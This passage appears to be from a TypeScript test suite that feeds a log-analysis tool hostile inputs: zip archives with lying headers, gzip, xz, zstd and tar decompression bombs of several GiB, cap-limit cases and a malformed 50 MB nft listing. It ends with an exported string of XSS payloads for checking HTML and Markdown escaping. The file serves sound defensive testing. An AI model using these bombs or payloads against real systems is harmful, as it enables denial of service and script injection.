      write(path.join(dir, 'overlap.zip'), zip([ok, ...Array.from({ length: 20 }, (_, i) => ({ name: `dup/${i}`, body: VALID, cdOffset: 0 }))]));
      write(path.join(dir, 'valid-journal'), VALID);
      return { inputs: [dir] };
    },
    valid: ['bundle/valid-journal', 'overlap.zip/node/valid-journal'],
    reported: (r) => {
      for (const z of ['count-lies.zip', 'offset-lies.zip', 'cd-size-lies.zip', 'entry-size-lies.zip', 'name-lies.zip', 'overlap.zip']) expect(said(r, z)).toMatch(/^zip archive/);
      expect(said(r, 'offset-lies.zip')).toMatch(/unreadable|corrupt/);
    },
  },
  // ---- bombs -------------------------------------------------------------------------------------------
  {
    id: 'bombs-single',
    heavy: true,
    attack: 'single .gz, .xz and .zst files and a zip member each expanding to 8 GiB of zeros',
    build: (dir) => {
      for (const [kind, ext] of [['gzip', 'gz'], ['xz', 'xz'], ['zstd', 'zst']] as const) {
        const b = zeroBomb(kind, 8 * GiB);
        write(path.join(dir, `bomb.${ext}`), Buffer.concat(b.body));
      }
      write(path.join(dir, 'bomb.zip'), zip([{ name: 'zeros', body: '', raw: deflateZeros(4 * GiB - 64 * MiB) }, { name: 'valid-journal', body: VALID }]));
      write(path.join(dir, 'valid-journal'), VALID);
      return { inputs: [dir] };
    },
    valid: ['bundle/valid-journal', 'bomb.zip/valid-journal'],
    reported: (r) => {
      for (const f of ['bomb.gz', 'bomb.xz', 'bomb.zst', 'bomb.zip/zeros']) expect(said(r, f)).toMatch(/binary content \(NUL bytes\)/);
    },
  },
  {
    id: 'bomb-tar-gz',
    heavy: true,
    attack: 'a .tar.gz whose member expands to 5 GiB of zeros (past the 4 GiB member cap), a journal after it',
    build: (dir) => ({ inputs: [write(path.join(dir, 'bomb.tar.gz'), tarBomb('gzip', Math.max(5, BOMB_GIB) * GiB))] }),
    valid: ['bomb.tar.gz/node/valid-journal', 'bomb.tar.gz/node/after-the-bomb'],
    reported: (r) => expect(said(r, 'bomb.tar.gz/node/var/log/zeros.log')).toMatch(/binary content/),
    budgetS: BOMB_GIB > 1 ? 180 : 60,
  },
  {
    id: 'bomb-tar-xz',
    heavy: true,
    attack: `a .tar.xz whose member expands to ${BOMB_GIB} GiB of zeros, a journal after it`,
    build: (dir) => ({ inputs: [write(path.join(dir, 'bomb.tar.xz'), tarBomb('xz', BOMB_GIB * GiB))] }),
    valid: ['bomb.tar.xz/node/valid-journal', 'bomb.tar.xz/node/after-the-bomb'],
    reported: (r) => expect(said(r, 'bomb.tar.xz/node/var/log/zeros.log')).toMatch(/binary content/),
    budgetS: BOMB_GIB > 1 ? 180 : 60,
  },
  {
    id: 'bomb-tar-zst',
    heavy: true,
    attack: `a .tar.zst whose member expands to ${BOMB_GIB} GiB of zeros, a journal after it`,
    build: (dir) => ({ inputs: [write(path.join(dir, 'bomb.tar.zst'), tarBomb('zstd', BOMB_GIB * GiB))] }),
    valid: ['bomb.tar.zst/node/valid-journal', 'bomb.tar.zst/node/after-the-bomb'],
    reported: (r) => expect(said(r, 'bomb.tar.zst/node/var/log/zeros.log')).toMatch(/binary content/),
    budgetS: BOMB_GIB > 1 ? 180 : 60,
  },
  {
    id: 'text-bomb-capped',
    heavy: true,
    attack: 'a .gz of journal lines expanding to 6 GiB, read under --max-member-size 32M: cut with a note',
    build: (dir) => {
      // Lines that give no event (SyncLoop UPDATE) after one VALID: the cap is what is tested, not the event store.
      const quiet = 'Sep 14 11:39:42 hostile-node kubelet[1789]: I0914 11:39:42.000000    1789 kubelet.go:1] "SyncLoop UPDATE" source="api" pods=["default/p"]\n';
      const block = Buffer.from(VALID + quiet.repeat(Math.floor((64 * MiB) / quiet.length)));
      const one = gzipSync(block, { level: 9 });
      write(path.join(dir, 'journal.gz'), Buffer.concat(Array.from({ length: 96 }, () => one)));
      return { inputs: [path.join(dir, 'journal.gz')], args: ['--max-member-size', '32M'] };
    },
    valid: ['journal.gz'],
    reported: (r) => expect(said(r, 'journal.gz')).toContain('cut after 32 MiB of decompressed data, the per-file cap (--max-member-size): the rest was not read'),
  },
  {
    id: 'event-bomb',
    heavy: true,
    attack: 'a .gz of 2 GiB of lines that each give an event, under --max-events 50000: past the cap events are counted, not kept',
    build: (dir) => {
      const one = gzipSync(Buffer.from(VALID.repeat(Math.floor((64 * MiB) / VALID.length))), { level: 9 });
      write(path.join(dir, 'journal.gz'), Buffer.concat(Array.from({ length: 32 }, () => one)));
      return { inputs: [path.join(dir, 'journal.gz')], args: ['--max-events', '50000', '--max-member-size', '24M'] };
    },
    valid: ['journal.gz'],
    reported: (r) => {
      const i = inputOf(r, 'journal.gz');
      expect(i.notes).toContain("the run's cap of 50000 events was reached (--max-events): the events of line 50001 and after were counted, not kept");
      expect(i.events).toBe(i.records);
    },
  },
  {
    id: 'nft-hostile',
    heavy: true,
    attack: 'a 50 MB nft listing: 10,000 CNI-DN chains none of which hashes to a known sandbox, half the jumps untranslated, unknown statements, a stray and missing closing braces',
    build: (dir) => write(path.join(dir, 'sos_commands/firewall_tables/nft_-a_list_ruleset'), nftHostile()) && { inputs: [dir] },
    valid: ['nft_-a_list_ruleset'],
    reported: (r) => {
      const i = inputOf(r, 'nft_-a_list_ruleset');
      // 10,000 "frobnicate" lines in CNI-DN chains and one stray brace; every other line a skip or an event.
      expect(i).toMatchObject({ format: 'nft-ruleset', unparsed: NFT_CHAINS + 1, events: 3 * NFT_CHAINS + 2 });
      expect(i.lines).toBeGreaterThan((50 * MiB) / 100);
      expect(i.notes).toEqual(['1 table or chain blocks were not closed before the next one began: read as closed', 'the listing ends inside table inet filter, chain forward: cut off?']);
      expect(r.notes.filter((n) => n.includes('its sandbox is unknown'))).toHaveLength(20);
      expect(r.notes).toContain(`${NFT_CHAINS - 20} more CNI-DN chains without a comment match no known sandbox`);
      // The two jumps sharing a port: the earlier one's owner is unknown, so the finding is medium and says so.
      expect(r.findings.map((f) => [f.rule, f.severity, f.containerId])).toEqual([['hostport-dnat-shadowed', 'medium', null]]);
    },
  },
  {
    id: 'total-cap',
    heavy: true,
    attack: 'a 2 GiB .tar.gz bomb under --max-total-size 256M: the archive stops with a note, later inputs are still read',
    build: (dir) => ({ inputs: [write(path.join(dir, 'bomb.tar.gz'), tarBomb('gzip', 2 * GiB)), write(path.join(dir, 'valid-journal'), VALID)], args: ['--max-total-size', '256M'] }),
    valid: ['bomb.tar.gz/node/valid-journal', 'valid-journal'],
    reported: (r) => expect(said(r, 'bomb.tar.gz')).toMatch(/the run's cap of 256 MiB of decompressed data was reached \(--max-total-size\)/),
  },
];

const NFT_CHAINS = 10_000;

/**
 * An nft -a listing padded to 50 MB: CNI-HOSTPORT-DNAT with a jump per chain (every other one untranslated, so held
 * until its chain's ports are read; the last two share port 60000), 10,000 chains each with a DNAT rule and an
 * unknown statement, a stray "}", then a filter table of accept rules whose chain opens another and never closes.
 */
function nftHostile(): string {
  const hex = (i: number): string => i.toString(16).padStart(21, '0');
  const port = (i: number): number => (i >= NFT_CHAINS - 2 ? 60000 : 1 + i);
  const out = ['# Warning: table ip nat is managed by iptables-nft, do not touch!', 'table ip nat { # handle 1', '\tchain PREROUTING { # handle 2', '\t\ttype nat hook prerouting priority dstnat; policy accept;', '\t}', '\tchain CNI-HOSTPORT-DNAT { # handle 3'];
  for (let i = 0; i < NFT_CHAINS; i++)
    out.push(i % 2 === 0 ? `\t\tmeta l4proto tcp  tcp dport { ${port(i)} } counter packets 0 bytes 0 jump CNI-DN-${hex(i)} # handle ${10 + i}` : `\t\tmeta l4proto tcp xt match "multiport" counter packets 0 bytes 0 jump CNI-DN-${hex(i)} # handle ${10 + i}`);
  out.push('\t}');
  for (let i = 0; i < NFT_CHAINS; i++) out.push(`\tchain CNI-DN-${hex(i)} {`, `\t\ttcp dport ${port(i)} counter packets 0 bytes 0 dnat to 10.${(i >> 16) & 255}.${(i >> 8) & 255}.${i & 255}:80`, '\t\tfrobnicate the flux capacitor', '\t}');
  out.push('}', '}', 'table inet filter {', '\tchain input {', '\tchain forward {');
  const head = out.join('\n') + '\n';
  const rule = '\t\tip saddr 10.0.0.1 tcp dport 22 counter packets 0 bytes 0 accept comment "filler rule"\n';
  return head + rule.repeat(Math.ceil((50 * MiB - head.length) / rule.length));
}

/** Log-text payloads for the HTML and Markdown checks, on one line (inside an iptables comment: no "*" + "/"). */
export const XSS_INLINE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) ```js | a | b | `tick`';

export type { TarEntry };
